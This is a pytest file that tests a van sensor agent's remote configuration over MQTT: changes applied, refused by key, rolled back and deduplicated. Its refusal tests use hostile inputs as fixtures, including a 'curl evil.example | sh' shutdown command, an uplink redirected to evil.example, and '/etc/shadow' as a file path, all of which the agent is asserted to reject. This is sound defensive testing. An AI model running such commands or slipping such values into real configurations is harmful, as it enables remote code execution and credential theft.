"""Remote configuration over a real Mosquitto: applied, refused by key, persisted, no sample lost."""

from __future__ import annotations

import json
import threading
import time
import tomllib
from pathlib import Path

from click.testing import CliRunner

from receiver.device_config import build_request, device_config_cli, send_device_config
from edge.remote import decode_request, dump_toml, merge
from edge.runtime import Runtime, load_full_config
from edge.systemd_supervisor import Notifier


def _conf(data_dir: Path, port: int) -> str:
    return f"""# the van's file
[device]
id = "van-rc"
data_dir = "{data_dir}"
[sampling]
rate_hz = 1.0
commit_interval_s = 1.0
[batch]
max_samples = 2000
[uplink]
host = "127.0.0.1"
port = {port}
reconnect_min_s = 0.2
reconnect_max_s = 1.0
[simulation]
enabled = true
speedup = 20
[sensors.pm]
driver = "sim-pm"
[sensors.gps]
driver = "sim-gps"
"""


def _send(port: int, body: dict) -> dict:
    ack = send_device_config("van-rc", json.dumps(body).encode(), host="127.0.0.1", port=port, wait_s=15)
    assert ack is not None, "no ack from the device"
    return ack


def _running(tmp_path: Path, port: int, **kw) -> tuple[Runtime, threading.Thread, Path]:
    data = tmp_path / "data"
    data.mkdir()
    conf = tmp_path / "agent.toml"
    conf.write_text(_conf(data, port))
    cfg, svc = load_full_config(conf)
    rt = Runtime(cfg, svc, config_path=conf, notifier=Notifier(""), **kw)
    t = threading.Thread(target=rt.run, daemon=True)
    t.start()
    assert rt.supervisor.ready.wait(20)
    deadline = time.monotonic() + 10
    while not rt.agent.link.connected and time.monotonic() < deadline:
        time.sleep(0.05)
    assert rt.agent.link.connected
    time.sleep(0.3)  # the config subscription is made on connect
    return rt, t, conf


def _stop(rt: Runtime, t: threading.Thread) -> None:
    rt.request_stop()
    t.join(15)
    rt.close()


def test_remote_config_roundtrip(tmp_path: Path, mosquitto) -> None:
    rt, t, conf = _running(tmp_path, mosquitto.port)
    data = tmp_path / "data"
    try:
        buffer = rt.agent.buffer

        # 1. A valid change: applied live, persisted, the old file kept as .prev.
        ack = _send(mosquitto.port, {"id": "r1", "config": {"sampling": {"rate_hz": 2}, "batch": {"max_samples": 50}}})
        assert ack["ok"] and ack["status"] == "applied", ack
        assert set(ack["changed"]) >= {"sampling", "batch"}
        assert rt.agent.cfg.sampling.rate_hz == 2.0 and rt.agent.cfg.batch.max_samples == 50
        on_disk = tomllib.loads(conf.read_text())
        assert on_disk["sampling"]["rate_hz"] == 2 and on_disk["sensors"]["pm"]["driver"] == "sim-pm"
        assert (tmp_path / "agent.toml.prev").read_text() == _conf(data, mosquitto.port)

        # 2. Invalid: refused with every key named; the old one stays in force and on disk.
        before = conf.read_text()
        ack = _send(mosquitto.port, {"id": "r2", "config": {"sampling": {"rate_hz": 500}, "uplink": {"port": 0}}})
        assert not ack["ok"] and ack["status"] == "refused"
        keys = {e["key"] for e in ack["errors"]}
        assert keys == {"sampling.rate_hz", "uplink.port"}, ack
        assert rt.agent.cfg.sampling.rate_hz == 2.0 and conf.read_text() == before

        # 3. A calibration for a sensor whose driver takes none: refused by key.
        ack = _send(mosquitto.port, {"id": "r3", "kind": "calibration", "sensor": "pm", "calibration": {"a": 1}})
        assert not ack["ok"] and ack["errors"][0]["key"].startswith("sensors.pm.calibration"), ack
        # ... and the device id cannot be changed from afar.
        ack = _send(mosquitto.port, {"id": "r4", "config": {"device": {"id": "van-other"}}})
        assert not ack["ok"] and ack["errors"][0]["key"] == "device.id"

        # 4. A redelivered request is acknowledged, not applied twice.
        ack = _send(mosquitto.port, {"id": "r1", "config": {"sampling": {"rate_hz": 2}}})
        assert ack["ok"] and ack["status"] == "duplicate"
        # The heartbeat says which configuration is in force.
        assert rt.agent.status()["config_id"] == "r1"
        time.sleep(0.5)
    finally:
        rt.request_stop()
        t.join(15)
    # No sample lost across the changes: the same buffer, every sample committed, seq unbroken.
    assert rt.agent.buffer is buffer
    assert rt.agent.stats.committed == rt.agent.stats.taken > 0
    assert buffer.last_seq() == rt.agent.stats.committed
    assert buffer.stats().samples_dropped == 0
    rt.close()


def test_cli_send_without_a_device_times_out(tmp_path: Path, mosquitto) -> None:
    f = tmp_path / "rate.toml"
    f.write_text("[sampling]\nrate_hz = 2.0\n")
    r = CliRunner().invoke(device_config_cli(), ["send", "van-none", str(f), "--host", "127.0.0.1",
                                                 "--port", str(mosquitto.port), "--wait", "0.5"])  # fmt: skip
    assert r.exit_code == 1 and "no answer from van-none" in r.output


def test_request_formats_and_toml_roundtrip(tmp_path: Path) -> None:
    f = tmp_path / "sheet.toml"
    f.write_text("we_zero_mv = 295.0\nsensitivity_na_per_ppm = -0.41\n")
    req = decode_request(build_request(f, calibration_sensor="no2", request_id="c1"))
    assert req.kind == "calibration" and req.sensor == "no2" and req.data["we_zero_mv"] == 295.0
    raw = decode_request(b'[sampling]\nrate_hz = 3.0\n')
    assert raw.mode == "replace" and raw.toml_text
    doc = merge({"sampling": {"rate_hz": 1.0, "commit_interval_s": 5.0}, "sensors": {"a": {"driver": "x"}}},
                {"sampling": {"rate_hz": 2.0}, "sensors": {"a": {"cal": {"k": 1}}}})  # fmt: skip
    assert doc == {"sampling": {"rate_hz": 2.0, "commit_interval_s": 5.0},
                   "sensors": {"a": {"driver": "x", "cal": {"k": 1}}}}  # fmt: skip
    text = dump_toml({**doc, "uplink": {"password": 'p"w\\x', "ports": [1, 2]}})
    assert tomllib.loads(text) == {**doc, "uplink": {"password": 'p"w\\x', "ports": [1, 2]}}


# -- privileged and safe: local-only keys, no sensorless van, probation and rollback ----------


class AckListener:
    """Every answer the van publishes on its config/ack topic (the applied one and the later verdict)."""

    def __init__(self, port: int, device: str = "van-rc") -> None:
        import queue as _queue

        import paho.mqtt.client as mqtt

        self.acks: _queue.SimpleQueue[dict] = _queue.SimpleQueue()
        self.seen: list[dict] = []
        subscribed = threading.Event()
        self.c = mqtt.Client(callback_api_version=mqtt.CallbackAPIVersion.VERSION2, client_id=f"acks-{device}")
        self.c.on_message = lambda c, u, m: self.acks.put(json.loads(m.payload))
        self.c.on_subscribe = lambda *a: subscribed.set()
        self.c.connect("127.0.0.1", port)
        self.c.loop_start()
        self.c.subscribe(f"datalab/v1/{device}/config/ack", qos=1)
        assert subscribed.wait(10)

    def wait(self, rid: str, status: str, timeout: float = 20.0) -> dict:
        deadline = time.monotonic() + timeout
        while True:
            for a in self.seen:
                if a["id"] == rid and a["status"] == status:
                    return a
            left = deadline - time.monotonic()
            assert left > 0, f"no {status!r} ack for {rid}; got {[(a['id'], a['status']) for a in self.seen]}"
            try:
                self.seen.append(self.acks.get(timeout=min(left, 0.5)))
            except Exception:
                pass

    def close(self) -> None:
        self.c.loop_stop()
        self.c.disconnect()


def test_remote_config_refuses_local_only_keys_and_sensorless_vans(tmp_path: Path, mosquitto, caplog) -> None:
    rt, t, conf = _running(tmp_path, mosquitto.port)
    acks = AckListener(mosquitto.port)
    before = conf.read_text()
    secret = "s3cret-never-logged"
    try:
        with caplog.at_level("INFO"):
            # Each of these is what issue 13 found accepted: a shell command, a plain-TCP host
            # (the van would send its password in clear), credentials, TLS, paths.
            hostile = {"power": {"shutdown_command": "curl evil.example | sh"},
                       "uplink": {"host": "evil.example", "port": 1883, "tls": True, "password": secret,
                                  "ca_file": "/tmp/ca.crt", "topic_prefix": "other/v1"},
                       "device": {"data_dir": "/tmp/elsewhere"}, "buffer": {"quarantine_dir": "/tmp/q"},
                       "sampling": {"rate_hz": 2}}  # fmt: skip
            ack = _send(mosquitto.port, {"id": "h1", "config": hostile})
            assert not ack["ok"] and ack["status"] == "refused", ack
            keys = {e["key"] for e in ack["errors"]}
            assert keys == {"power.shutdown_command", "uplink.host", "uplink.port", "uplink.tls", "uplink.password",
                            "uplink.ca_file", "uplink.topic_prefix", "device.data_dir", "buffer.quarantine_dir"}, keys
            assert all("local-only" in e["problem"] for e in ack["errors"])
            # Nothing of it took effect, not even the harmless key sent along with them.
            assert conf.read_text() == before and rt.agent.cfg.sampling.rate_hz == 1.0
            assert rt.agent.cfg.uplink.host == "127.0.0.1" and rt.svc.power.shutdown_command == "systemctl poweroff"

            # The same, in replace mode with a whole file.
            doc = tomllib.loads(before)
            doc["uplink"]["host"] = "203.0.113.9"
            ack = _send(mosquitto.port, {"id": "h2", "mode": "replace", "toml": dump_toml(doc)})
            assert [e["key"] for e in ack["errors"]] == ["uplink.host"], ack

            # A change that leaves no sensor.
            doc = tomllib.loads(before)
            del doc["sensors"]
            ack = _send(mosquitto.port, {"id": "h3", "mode": "replace", "toml": dump_toml(doc)})
            assert not ack["ok"] and [e["key"] for e in ack["errors"]] == ["sensors"], ack
            assert len(rt.agent.cfg.sensors) == 2 and conf.read_text() == before

            # A replace that leaves the local-only keys out keeps the van's own values.
            doc = tomllib.loads(before)
            del doc["uplink"]["host"], doc["uplink"]["port"]
            doc["sampling"]["rate_hz"] = 2.0
            ack = _send(mosquitto.port, {"id": "h4", "mode": "replace", "toml": dump_toml(doc)})
            assert ack["ok"] and ack["changes"] == ["sampling.rate_hz: 1.0 -> 2.0"], ack
            on_disk = tomllib.loads(conf.read_text())
            assert on_disk["uplink"]["host"] == "127.0.0.1" and on_disk["uplink"]["port"] == mosquitto.port
            assert acks.wait("h4", "confirmed")["ok"]
            # The operator's command waits for the verdict when asked to.
            f = tmp_path / "rate.toml"
            f.write_text("[sampling]\nrate_hz = 1.0\n")
            r = CliRunner().invoke(device_config_cli(), ["send", "van-rc", str(f), "--host", "127.0.0.1", "--port",
                                                         str(mosquitto.port), "--id", "h5", "--verdict", "--wait", "20"])
            assert r.exit_code == 0 and json.loads(r.output)["status"] == "confirmed", r.output
        assert secret not in caplog.text
        assert "remote configuration h4 applied: sampling.rate_hz: 1.0 -> 2.0" in caplog.text
        print("refused by key:", sorted(keys), "| replace without uplink keys kept host/port; h4 confirmed")
    finally:
        acks.close()
        _stop(rt, t)


def test_remote_change_that_leaves_a_silent_sensor_rolls_back(tmp_path: Path, mosquitto, caplog) -> None:
    """The PM sensor moved to a port where nothing answers (a real pty, silent): back by itself."""
    import os

    rt, t, conf = _running(tmp_path, mosquitto.port, remote_grace_s=3.0)
    acks = AckListener(mosquitto.port)
    master, slave = os.openpty()
    before = conf.read_text()
    try:
        with caplog.at_level("INFO"):
            ack = _send(mosquitto.port, {"id": "ok1", "config": {"batch": {"max_samples": 100}}})
            assert ack["status"] == "applied" and ack["changes"] == ["batch.max_samples: 2000 -> 100"]
            assert acks.wait("ok1", "confirmed")["ok"]
            good = conf.read_text()

            change = {"sensors": {"pm": {"driver": "pms5003", "port": os.ttyname(slave)}}}
            t_sent = time.monotonic()
            ack = _send(mosquitto.port, {"id": "bad1", "config": change})
            assert ack["ok"] and ack["status"] == "applied", ack
            assert rt.agent.cfg.sensors[0].driver == "pms5003" and "pms5003" in conf.read_text()
            verdict = acks.wait("bad1", "rolled_back", timeout=30)
            waited = time.monotonic() - t_sent
        assert not verdict["ok"] and "no reading from pm" in verdict["reason"], verdict
        assert "sensors.pm.driver: 'pms5003' -> 'sim-pm'" in verdict["changes"]
        # Back in force and on disk, with the request before it as the van's configuration.
        assert rt.agent.cfg.sensors[0].driver == "sim-pm" and conf.read_text() == good
        assert rt.agent.status()["config_id"] == "ok1"
        pm = next(d for d in rt.agent.drivers if d.name == "pm")
        n = pm.reads
        deadline = time.monotonic() + 10
        while pm.reads == n and time.monotonic() < deadline:
            time.sleep(0.05)
        assert pm.reads > n, "the PM sensor reads again after the rollback"
        assert "remote configuration bad1 rolled_back: rolled back: no reading from pm" in caplog.text
        assert waited >= 2.5  # not before its grace period
        print(f"silent pm on {os.ttyname(slave)}: rolled back {waited:.1f} s after sending (grace 3 s); pm reads again")
    finally:
        os.close(master)
        os.close(slave)
        acks.close()
        _stop(rt, t)
    assert before != good


def test_local_only_policy_and_change_log() -> None:
    from edge.remote_policy import describe_changes, keep_local_only

    current = {"uplink": {"host": "mqtt.example", "password": "pw", "tls": True}, "sampling": {"rate_hz": 1.0}}
    doc, errors = keep_local_only(current, {"sampling": {"rate_hz": 2.0}})
    assert not errors and doc["uplink"] == current["uplink"], "left out: the van's own values"
    _, errors = keep_local_only(current, {"uplink": {"host": "mqtt.example", "tls": False}})
    assert [e.key for e in errors] == ["uplink.tls"], "the same value is no change; another is refused"
    effective = {"uplink": {"port": 1883}}
    _, errors = keep_local_only(current, {"uplink": {"port": 1883}}, effective)
    assert not errors, "restating a default the file leaves out is no change"
    _, errors = keep_local_only(current, {"uplink": {"port": 8883}}, effective)
    assert [e.key for e in errors] == ["uplink.port"]
    # In sensor tables: the file the agent would read, and network "ports".
    sensors = {"sensors": {"no2": {"driver": "no2-b43f", "calibration_file": "/etc/datalab-edge/no2.toml"},
                           "pm": {"driver": "pms5003", "port": "/dev/serial0"}}}  # fmt: skip
    doc, errors = keep_local_only(sensors, {"sensors": {"no2": {"driver": "no2-b43f", "bus": 1},
                                                        "pm": {"driver": "pms5003", "port": "/dev/ttyUSB0"}}})
    assert not errors and doc["sensors"]["no2"]["calibration_file"] == "/etc/datalab-edge/no2.toml"
    _, errors = keep_local_only(sensors, {"sensors": {"no2": {"calibration_file": "/etc/shadow"},
                                                      "pm": {"port": "socket://203.0.113.5:9600"}}})
    assert [e.key for e in errors] == ["sensors.no2.calibration_file", "sensors.pm.port"]
    assert describe_changes({"uplink": {"password": "old"}, "a": {"b": 1}},
                            {"uplink": {"password": "new"}, "a": {"b": 2, "c": "x"}}) == [
        "a.b: 1 -> 2", "a.c: (unset) -> 'x'", "uplink.password: *** -> ***"]  # fmt: skip


def test_probation_survives_a_restart(tmp_path: Path, mosquitto) -> None:
    """The agent stops while a bad change is on probation; started again, it still rolls back."""
    import os
    import stat

    rt, t, conf = _running(tmp_path, mosquitto.port, remote_grace_s=600.0)
    master, slave = os.openpty()
    before = conf.read_text()
    try:
        ack = _send(mosquitto.port, {"id": "bad2", "config": {"sensors": {"pm": {"driver": "pms5003",
                                                                                  "port": os.ttyname(slave)}}}})
        assert ack["status"] == "applied"
        kept = tmp_path / "agent.toml.probation"
        assert kept.read_text() == before and stat.S_IMODE(kept.stat().st_mode) == 0o600  # it may hold secrets
    finally:
        _stop(rt, t)
    assert "pms5003" in conf.read_text()
    # Started again from the file with the change in it, with a short grace period this time.
    acks = AckListener(mosquitto.port)
    cfg, svc = load_full_config(conf)
    rt2 = Runtime(cfg, svc, config_path=conf, notifier=Notifier(""), remote_grace_s=3.0)
    t2 = threading.Thread(target=rt2.run, daemon=True)
    t2.start()
    try:
        verdict = acks.wait("bad2", "rolled_back", timeout=30)
        assert "no reading from pm" in verdict["reason"], verdict
        assert conf.read_text() == before and rt2.agent.cfg.sensors[0].driver == "sim-pm"
        assert not (tmp_path / "agent.toml.probation").exists()
        assert json.loads((tmp_path / "data" / "remote-config.json").read_text())["probation"] is None
        print("restart during probation: rolled back by the restarted agent:", verdict["reason"])
    finally:
        os.close(master)
        os.close(slave)
        acks.close()
        _stop(rt2, t2)


def test_reload_logs_what_changed_and_ends_probation(tmp_path: Path, mosquitto, caplog) -> None:
    """A technician's SIGHUP reload wins over a remote change on probation; its log names each key."""
    import os

    rt, t, conf = _running(tmp_path, mosquitto.port, remote_grace_s=600.0)
    master, slave = os.openpty()
    try:
        ack = _send(mosquitto.port, {"id": "p1", "config": {"sensors": {"pm": {"driver": "pms5003",
                                                                                "port": os.ttyname(slave)}}}})
        assert ack["status"] == "applied" and rt.agent.status()["config_probation"] == "p1"
        conf.write_text(conf.read_text().replace("rate_hz = 1.0", "rate_hz = 2.0"))
        with caplog.at_level("INFO"):
            rt.request_reload()
            deadline = time.monotonic() + 10
            while rt.agent.cfg.sampling.rate_hz != 2.0 and time.monotonic() < deadline:
                time.sleep(0.05)
        assert rt.agent.cfg.sampling.rate_hz == 2.0
        assert "sampling.rate_hz: 1.0 -> 2.0" in caplog.text
        assert rt.agent.status()["config_probation"] is None
        assert not (tmp_path / "agent.toml.probation").exists()
    finally:
        os.close(master)
        os.close(slave)
        _stop(rt, t)


def test_remote_refuses_gpsd_source_simulation_gps_only_and_out_of_range(tmp_path: Path, mosquitto) -> None:
    """Issue 13, 7.1/7.3/7.4/7.5 through a real broker and agent: a gpsd host or port (a fake gpsd
    would set the van's time), any [simulation] key, a change leaving only a GPS, and uplink values
    outside their bounds are refused by key; nothing of them takes effect."""
    rt, t, conf = _running(tmp_path, mosquitto.port)
    before = conf.read_text()
    refused: dict[str, set[str]] = {}
    try:
        cases = {
            "g1": {"config": {"sensors": {"gps": {"driver": "gpsd", "host": "203.0.113.7"}}}},
            "g2": {"config": {"sensors": {"gps": {"driver": "gpsd", "port": 12947}}}},
            "s1": {"config": {"simulation": {"speedup": 1000}, "sampling": {"rate_hz": 2}}},
            "s2": {"config": {"simulation": {"enabled": False}}},
            "u1": {"config": {"uplink": {"keepalive_s": -1, "ack_timeout_s": 0.001, "heartbeat_s": 100000,
                                         "window": 0}}},
        }  # fmt: skip
        doc = tomllib.loads(before)
        del doc["sensors"]["pm"]
        cases["o1"] = {"mode": "replace", "toml": dump_toml(doc)}
        for rid, body in cases.items():
            ack = _send(mosquitto.port, {"id": rid, **body})
            assert not ack["ok"] and ack["status"] == "refused", ack
            refused[rid] = {e["key"] for e in ack["errors"]}
        assert refused["g1"] == {"sensors.gps.host"}
        assert refused["g2"] == {"sensors.gps.port"}
        assert refused["s1"] == {"simulation.speedup"}
        # Local-only, and the schema's own word: sim-* drivers need [simulation] enabled = true.
        assert refused["s2"] == {"simulation.enabled", "sensors.pm.driver", "sensors.gps.driver"}
        assert refused["u1"] == {"uplink.keepalive_s", "uplink.ack_timeout_s", "uplink.heartbeat_s", "uplink.window"}
        assert refused["o1"] == {"sensors"}
        assert conf.read_text() == before and rt.agent.cfg.simulation.speedup == 20
        assert [sc.driver for sc in rt.agent.cfg.sensors] == ["sim-pm", "sim-gps"]
        # A gpsd on the van itself (the driver's defaults restated) and unchanged simulation keys are fine.
        ack = _send(mosquitto.port, {"id": "ok1", "config": {"simulation": {"enabled": True, "speedup": 20},
                                                             "uplink": {"keepalive_s": 60}}})
        assert ack["ok"] and ack["changes"] == ["uplink.keepalive_s: (unset) -> 60"], ack
        print("refused by key:", {k: sorted(v) for k, v in refused.items()}, "| ok1 applied:", ack["changes"])
    finally:
        _stop(rt, t)


def test_retained_bad_request_is_handled_once_across_reconnects_and_restarts(tmp_path: Path, mosquitto) -> None:
    """Issue 13, 7.2: a bad change sent retained came back at every reconnect and was applied,
    rolled back and applied again forever. Handled ids are kept on the card: once only."""
    import os

    import paho.mqtt.client as mqtt

    rt, t, conf = _running(tmp_path, mosquitto.port, remote_grace_s=3.0)
    master, slave = os.openpty()
    before = conf.read_text()
    sender = mqtt.Client(callback_api_version=mqtt.CallbackAPIVersion.VERSION2, client_id="retainer")
    sender.connect("127.0.0.1", mosquitto.port)
    sender.loop_start()
    change = {"id": "ret1", "config": {"sensors": {"pm": {"driver": "pms5003", "port": os.ttyname(slave)}}}}
    sender.publish("datalab/v1/van-rc/config", json.dumps(change).encode(), qos=1, retain=True).wait_for_publish(5)
    sender.loop_stop()
    sender.disconnect()

    def statuses(r: Runtime) -> list[str]:
        return [x.status for x in r.remote.results if x.id == "ret1"]

    def wait_for(r: Runtime, status: str, n: int = 1, timeout: float = 30) -> None:
        deadline = time.monotonic() + timeout
        while statuses(r).count(status) < n:
            assert time.monotonic() < deadline, f"waiting for {n} {status!r}: {statuses(r)}"
            time.sleep(0.1)

    rt2 = None
    try:
        wait_for(rt, "rolled_back")
        assert rt.agent.cfg.sensors[0].driver == "sim-pm" and conf.read_text() == before
        for i in range(2):
            # The van's connection is taken over (same client id), so it reconnects, subscribes
            # again and the broker hands it the retained request again.
            kick = mqtt.Client(callback_api_version=mqtt.CallbackAPIVersion.VERSION2, client_id="van-rc")
            kick.connect("127.0.0.1", mosquitto.port)
            kick.loop_start()
            time.sleep(0.5)
            kick.loop_stop()
            kick.disconnect()
            wait_for(rt, "duplicate", i + 1)
        time.sleep(4)  # longer than the grace period: nothing was applied again
        assert statuses(rt) == ["applied", "rolled_back", "duplicate", "duplicate"], statuses(rt)
        assert rt.agent.cfg.sensors[0].driver == "sim-pm" and conf.read_text() == before
        _stop(rt, t)
        # A restarted agent remembers it too (remote-config.json).
        cfg, svc = load_full_config(conf)
        rt2 = Runtime(cfg, svc, config_path=conf, notifier=Notifier(""), remote_grace_s=3.0)
        t2 = threading.Thread(target=rt2.run, daemon=True)
        t2.start()
        wait_for(rt2, "duplicate")
        time.sleep(1)
        assert statuses(rt2) == ["duplicate"] and rt2.agent.cfg.sensors[0].driver == "sim-pm"
        dup = next(x for x in rt2.remote.results if x.id == "ret1")
        assert not dup.ok and dup.reason == "already handled: rolled_back"
        print("retained bad request: applied once, rolled back, then duplicate after 2 reconnects and "
              "an agent restart")
    finally:
        os.close(master)
        os.close(slave)
        if rt2 is not None:
            _stop(rt2, t2)
        else:
            _stop(rt, t)


def test_pending_acks_survive_a_restart(tmp_path: Path, mosquitto) -> None:
    """Issue 13, 7.6: an answer the van could not publish yet (offline) is on the card, and goes
    out through a real broker after the agent starts again."""
    import paho.mqtt.client as mqtt

    from edge.remote import RemoteConfig, Result

    state = tmp_path / "remote-config.json"
    rc = RemoteConfig("van-rc", "datalab/v1", state)
    rc.handle(b"{not json", lambda req: Result(req.id, True, "applied"))  # offline: no client
    assert json.loads(state.read_text())["pending_acks"], "the refusal waits on the card"
    acks = AckListener(mosquitto.port)
    client = mqtt.Client(callback_api_version=mqtt.CallbackAPIVersion.VERSION2, client_id="van-rc")
    client.connect("127.0.0.1", mosquitto.port)
    client.loop_start()
    try:
        again = RemoteConfig("van-rc", "datalab/v1", state)  # the agent started again
        again._client = client
        again.flush(connected=True)
        got = acks.wait("", "refused")
        assert "not valid JSON" in got["reason"]
        assert json.loads(state.read_text())["pending_acks"] == []
    finally:
        client.loop_stop()
        client.disconnect()
        acks.close()


def test_a_malformed_request_is_refused_under_its_own_id(tmp_path: Path, mosquitto) -> None:
    """Issue 16 re-test: a refusal of a request the van cannot decode (valid JSON with an id but
    TOML that does not parse, or over 256 KiB) carries the request's id, so `device-config send`
    matches it (it waited in vain for an ack with id "")."""
    rt, t, conf = _running(tmp_path, mosquitto.port)
    try:
        before = conf.read_text()
        ack = _send(mosquitto.port, {"id": "bad-toml", "mode": "replace", "toml": "[device\nid = "})
        assert ack["id"] == "bad-toml" and not ack["ok"] and ack["status"] == "refused", ack
        assert [e["key"] for e in ack["errors"]] == ["<request>.toml"], ack

        # Too large to be parsed at all: the id is read from the head (the sender writes it first).
        big = {"id": "too-big", "mode": "merge", "config": {"sampling": {"rate_hz": 2}}, "pad": "x" * 300_000}
        ack = _send(mosquitto.port, big)
        assert ack["id"] == "too-big" and ack["status"] == "refused", ack
        assert "larger than" in ack["reason"], ack

        # Neither touched the running configuration or the file.
        assert rt.agent.cfg.sampling.rate_hz == 1.0 and conf.read_text() == before
    finally:
        _stop(rt, t)


def test_request_id_is_the_id_decode_request_gives() -> None:
    """The refusal's id and an accepted request's id are the same function of the payload."""
    from core.config_topics import request_id

    for payload in (b'{"id": "a1", "config": {}}', b'{"config": {}}', b'[sampling]\nrate_hz = 2\n'):
        assert request_id(payload) == decode_request(payload).id != ""
    assert request_id(b'{"id": "x", "toml": 5, "mode": "replace"}') == "x"
    assert request_id(b'{"pad": "' + b"x" * 300_000 + b'", "id": "late"}') == ""  # not parsed: unknowable
